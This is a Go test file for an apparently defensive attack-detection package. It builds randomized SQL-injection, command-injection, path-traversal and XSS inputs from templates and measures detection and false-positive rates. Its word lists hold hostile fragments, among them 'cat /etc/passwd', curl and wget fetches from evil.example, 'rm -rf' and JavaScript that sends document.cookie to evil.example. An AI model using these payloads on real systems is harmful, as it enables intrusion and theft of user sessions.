package detect

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"strings"
	"testing"
)

// madeWords are the sets that a shape of testdata/made_*.txt names.
var madeWords = map[string][]string{
	"w":     {"garden", "blue", "Kestrel", "account", "lamp", "report", "zephyr", "notes", "order", "music", "value", "Müller", "foo", "x1", "item"},
	"t":     {"users", "orders", "accounts", "tbl_admin", "wp_users", "products", "members"},
	"c":     {"password", "name", "email", "price", "login", "passwd", "created_at"},
	"q":     {"'", "\"", "')", "\")", "'))", "' )", "`", "%'", "1'", "1\""},
	"s":     {" ", " ", " ", "  ", "\t", "\n", "/**/", "/*a*/", "+", "\u00a0", "\v"},
	"cm":    {"--", "-- ", "-- -", "#", "/*", "--+", ";--", "-- x", ";\x00", "--%20"},
	"h":     {"evil.example", "attacker.example.org", "10.11.12.13", "x7f.oast.example", "203.0.113.9", "hook.example.net:8080"},
	"b64":   {"d2hvYW1p", "Y2F0IC9ldGMvcGFzc3dk", "aWQK", "bHMgLWxhIC90bXA=", "cm0gLXJmIC90bXAveA=="},
	"blob":  {"SGVsbG8gd29ybGQ", "eyJpZCI6NDJ9", "kq3Zx8LbT0uYw1pR", "AbCdEf0123456789xyzQ", "TG9yZW0gaXBzdW0gZG9sb3I"},
	"hex":   {"9f86d081884c7d65", "deadbeefcafebabe0123456789abcdef", "4bf92f3577b34da6a3ce929d0e0e4736"},
	"up":    {"", "../", "../../", "../../../", "..\\..\\"},
	"pre":   {";", "; ", "|", "| ", "&", "&&", " && ", "||", " || ", "\n", ";;", "|&", " | "},
	"post":  {"", "", ";", "|", "&", " #", " ||", "\n", "&&"},
	"cmd":   {"id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "sleep 5", "ping -c 3 127.0.0.1", "nslookup evil.example", "curl http://evil.example/a", "wget -q http://evil.example/a.sh", "ls /", "ifconfig", "netstat -an", "/bin/sh", "rm -rf /tmp/x", "echo pwned123", "touch /tmp/x", "env", "ps aux", "cat ../../etc/hosts"},
	"js":    {"alert(1)", "prompt(document.domain)", "confirm`1`", "fetch('//evil.example/'+document.cookie)", "alert(document.cookie)", "eval(name)", "document.location='//evil.example'", "new Image().src='//evil.example/?'+document.cookie", "window.alert(1)", "alert(/x/)"},
	"first": {"Anna", "Mohammed", "Zoë", "Günther", "Siobhán", "Li", "Olu", "Mary-Jane", "José"},
	"last":  {"Brien", "Smith", "Müller", "Nguyen", "Reilly", "García", "Okafor", "Select", "Union"},
}

// madeOf makes a value of a shape.
func madeOf(shape string, r *rand.Rand) string {
	for {
		begin := strings.Index(shape, "‹")
		if begin < 0 {
			break
		}
		end := begin + strings.Index(shape[begin:], "›")
		choices := strings.Split(shape[begin+len("‹"):end], "¦")
		shape = shape[:begin] + choices[r.IntN(len(choices))] + shape[end+len("›"):]
	}
	var b strings.Builder
	for {
		before, rest, found := strings.Cut(shape, "«")
		b.WriteString(before)
		if !found {
			break
		}
		name, after, _ := strings.Cut(rest, "»")
		switch name {
		case "n":
			fmt.Fprint(&b, 10+r.IntN(9000))
		case "d":
			fmt.Fprint(&b, 2+r.IntN(8))
		default:
			words := madeWords[name]
			b.WriteString(words[r.IntN(len(words))])
		}
		shape = after
	}
	return strings.NewReplacer("⏎", "\n", "␍", "\r", "⇥", "\t", "␀", "\x00").Replace(b.String())
}

// madeShapes reads the lines of a file of testdata.
func madeShapes(t *testing.T, file string) (shapes [][2]string) {
	t.Helper()
	text, err := os.ReadFile("testdata/" + file)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if kind, shape, ok := strings.Cut(strings.TrimSuffix(line, "\n"), "\t"); ok && line[0] != '#' {
			shapes = append(shapes, [2]string{kind, shape})
		}
	}
	return shapes
}

// madeTally counts what was refused.
type madeTally struct{ all, refused int }

func (m *madeTally) add(refused bool) {
	m.all++
	if refused {
		m.refused++
	}
}

func (m *madeTally) percent() float64 { return 100 * float64(m.refused) / float64(max(m.all, 1)) }

// wire are ways in which a value may be coded once more than the gate undoes
// for its position.
var wire = []func(string) string{
	func(s string) string { return s },
	func(s string) string { return s },
	url.QueryEscape,
	url.PathEscape,
	func(s string) string { return url.PathEscape(url.PathEscape(s)) },
}

// madeFields are the fields in which a class is looked for.
func madeFields(class Class) []Field {
	switch class {
	case Redirect:
		return []Field{URL}
	case Traversal:
		return []Field{Unknown, Filename, URL, Identifier}
	case Log:
		return []Field{Unknown, Search, Identifier, Name}
	case Mail, CRLF:
		return []Field{Unknown, Email, Name, Identifier, Search}
	}
	return []Field{Unknown, Unknown, Search, Name, Identifier, Filename, URL}
}

// TestMadeAttacks holds how many values of attacks are found, in all and in
// each class. The values are made of shapes by chance with a fixed seed.
func TestMadeAttacks(t *testing.T) {
	const each, least, leastOfClass = 12, 98, 95
	var all madeTally
	byClass := map[string]*madeTally{}
	r := rand.New(rand.NewPCG(6, 28))
	for _, line := range madeShapes(t, "made_attacks.txt") {
		if byClass[line[0]] == nil {
			byClass[line[0]] = &madeTally{}
		}
		var class Class
		for class < classes && class.String() != line[0] {
			class++
		}
		if class == classes {
			t.Fatalf("%q is no class", line[0])
		}
		anywhere := []Field{Unknown}
		shape, weak := strings.CutPrefix(line[1], "?")
		if !weak {
			anywhere = madeFields(class)
		}
		for range each {
			value := madeOf(shape, r)
			if !strings.Contains(shape, "%") {
				value = wire[r.IntN(len(wire))](value)
			}
			field, at := anywhere[r.IntN(len(anywhere))], Position(r.IntN(6))
			v := Judge([]byte(value), at, field)
			refused := v.Score >= Threshold(field)
			all.add(refused)
			byClass[line[0]].add(refused)
			if !refused {
				t.Logf("missed\t%s\t%s\t%d %s %q\t%q", line[0], field, v.Score, v.Class, v.Reasons.Words(), value)
			}
		}
	}
	for class, tally := range byClass {
		t.Logf("%-16s %5.1f %% of %d", class, tally.percent(), tally.all)
		if tally.percent() < leastOfClass {
			t.Errorf("%s: %.1f %% of %d found", class, tally.percent(), tally.all)
		}
	}
	t.Logf("all %.2f %% of %d", all.percent(), all.all)
	if all.percent() < least || all.all < 1500 {
		t.Errorf("%.2f %% of %d found", all.percent(), all.all)
	}
}

// TestMadeBenign holds how few harmless values are refused, wherever they
// stand.
func TestMadeBenign(t *testing.T) {
	const each, most = 60, 0.2
	var all madeTally
	byField := map[string]*madeTally{}
	r := rand.New(rand.NewPCG(28, 6))
	for _, line := range madeShapes(t, "made_benign.txt") {
		for kind := range strings.SplitSeq(line[0], "|") {
			name, at, only := strings.Cut(kind, ":")
			field, ok := ParseField(name)
			if !ok {
				t.Fatalf("%q is no field", name)
			}
			if byField[kind] == nil {
				byField[kind] = &madeTally{}
			}
			seen := map[string]bool{}
			for range each {
				position := []Position{Query, JSON, Form}[r.IntN(3)]
				if only {
					position = map[string]Position{"header": Header, "cookie": Cookie}[at]
				}
				value := madeOf(line[1], r)
				v := Judge([]byte(value), position, field)
				refused := v.Score >= Threshold(field)
				all.add(refused)
				byField[kind].add(refused)
				if refused && !seen[value] {
					seen[value] = true
					t.Logf("refused\t%s\t%d %s %q\t%q", kind, v.Score, v.Class, v.Reasons.Words(), value)
				}
			}
		}
	}
	for field, tally := range byField {
		t.Logf("%-16s %5.2f %% of %d", field, tally.percent(), tally.all)
	}
	t.Logf("all %.2f %% of %d", all.percent(), all.all)
	if all.percent() > most || all.all < 1500 {
		t.Errorf("%.2f %% of %d refused", all.percent(), all.all)
	}
}
